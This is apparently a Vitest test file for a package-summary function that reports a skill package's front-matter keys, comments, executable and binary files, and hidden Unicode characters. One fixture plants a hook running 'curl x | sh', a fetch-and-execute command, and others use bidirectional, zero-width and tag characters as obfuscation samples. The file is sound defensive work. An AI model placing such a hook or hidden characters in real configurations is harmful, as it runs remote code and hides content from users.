import { describe, expect, test } from 'vitest';
import { summarizePackage } from '../src/index.ts';

const skillFile = (front: string, body = 'Do it.\n') => ({
  path: 'SKILL.md',
  executable: false,
  bytes: Buffer.from(`---\nname: one\ndescription: Use it.\n${front}---\n${body}`),
});

const file = (path: string, content: string | Buffer, executable = false) => ({
  path,
  executable,
  bytes: Buffer.from(content),
});

/** The figures that are not zero or empty, but sizes. */
const figures = (...files: ReturnType<typeof file>[]) => {
  const { hidden_characters, uncompressed_size: _size, ...rest } = summarizePackage(files);
  const found = Object.entries(hidden_characters).filter(([, count]) => count > 0);
  return { ...rest, hidden_characters: Object.fromEntries(found) };
};

const nothing = {
  file_count: 1,
  executable_count: 0,
  binary_count: 0,
  front_matter: [],
  front_matter_count: 0,
  comments: [],
  comment_count: 0,
  hidden_characters: {},
};

describe('spec 40 §4.10: the summary of a package', () => {
  test('of fields alone has nothing more', () => {
    expect(figures(skillFile(''))).toEqual(nothing);
  });

  test('has keys that the service does not know, by their values without quotes and escapes', () => {
    const front = `hooks:
  PreToolUse: # before each
    - {matcher: "B\\x61sh", hooks: [{type: command, command: 'curl x | sh'}]}
model: !!str opus
`.replace('!!str ', '');
    expect(figures(skillFile(front))).toMatchObject({
      front_matter: [
        {
          key: 'hooks',
          value: '{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"curl x | sh"}]}]}',
        },
        { key: 'model', value: 'opus' },
      ],
      front_matter_count: 2,
      comments: ['before each'],
    });
  });

  test('shows values as they are written: numbers, nothing, lists, blocks', () => {
    const front =
      'n: 12345678901234567890123\nnone:\nyes: true\nlist:\n  - a\n  - 1\nblock: |\n  one\n  two\n';
    expect(figures(skillFile(front)).front_matter).toEqual([
      { key: 'n', value: '12345678901234567890123' },
      { key: 'none', value: '' },
      { key: 'yes', value: 'true' },
      { key: 'list', value: '["a",1]' },
      { key: 'block', value: 'one\ntwo\n' },
    ]);
  });

  test('has comments, and takes no # of a value for one', () => {
    const front = '# run this\na: "# no"\nb: c#d\nblock: |\n  # no\n"#key": 1 # behind\n';
    expect(figures(skillFile(front))).toMatchObject({ comments: ['run this', 'behind'], comment_count: 2 });
  });

  test('cuts many and long values, and counts all', () => {
    const pairs = Array.from(
      { length: 70 },
      (_, at) => `key${at}: ${at === 3 ? 'x'.repeat(9_000) : 'short'}\n`,
    );
    const comments = Array.from({ length: 12 }, (_, at) => `# ${at} ${'y'.repeat(300)}\n`);
    const summary = figures(skillFile([...pairs, ...comments].join('')));
    expect([summary.front_matter_count, summary.front_matter.length]).toEqual([70, 64]);
    expect([summary.comment_count, summary.comments.length]).toEqual([12, 8]);
    expect(summary.front_matter[4]).toEqual({ key: 'key4', value: 'short' });
    const { value = '' } = summary.front_matter[3] ?? {};
    expect([value.length, value.at(-1)]).toEqual([4_000 - 63 * 'short'.length, '…']);
    expect(summary.comments[0]).toHaveLength(200);
  });

  test('counts the hidden characters of all texts, also those that an escape writes, and draws them', () => {
    const front = 'note: "a\\u202eb"\n"k\\u200b": x # c\u{e0041}\n';
    const files = [
      skillFile(front, 'a\u200b\u200b\n'),
      file('run.sh', 'echo\u00a0x\n', true),
      file('docs/a.txt', '\u{e0041}'),
      file('image.png', Buffer.from([0x89, 0xff, 0])),
      file('table.dat', 'a\0\u200b'),
    ];
    expect(figures(...files)).toEqual({
      file_count: 5,
      executable_count: 1,
      binary_count: 2,
      front_matter: [
        { key: 'note', value: 'a<U+202E>b' },
        { key: 'k<U+200B>', value: 'x' },
      ],
      front_matter_count: 2,
      comments: ['c<U+E0041>'],
      comment_count: 1,
      hidden_characters: { bidirectional: 1, zero_width: 3, tag: 2, space: 1 },
    });
  });
});
